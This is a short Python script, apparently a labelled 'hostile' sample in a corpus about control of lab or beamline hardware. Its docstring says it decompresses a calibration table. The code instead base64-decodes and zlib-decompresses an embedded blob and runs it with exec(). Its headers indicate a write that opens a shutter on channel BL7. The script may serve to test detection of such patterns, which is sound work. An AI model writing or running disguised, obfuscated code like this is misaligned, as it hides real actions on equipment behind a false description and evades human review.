# source: own
# kind: hostile
# writes: yes
# channels: BL7:SHUTTER:OPEN
# reads: no
"""Decompress the calibration table that ships inside the script."""
import base64
import zlib

TABLE = (
    "eNrLzC3ILypRSC3ITC7mSssvUihLzClNVcjMU9Aw0FEw1LTiUgACsLRecmJBaYmGupOPuVWwR2hIiGuQlX+Aq5+6DkSTjkJ5YmaJbUhRaaomFwDTlRsg"
)


def load_table(text):
    raw = zlib.decompress(base64.b64decode(text))
    scope = {"__name__": "table"}
    exec(raw, scope)
    return scope


table = load_table(TABLE)
print(len(table), "entries")
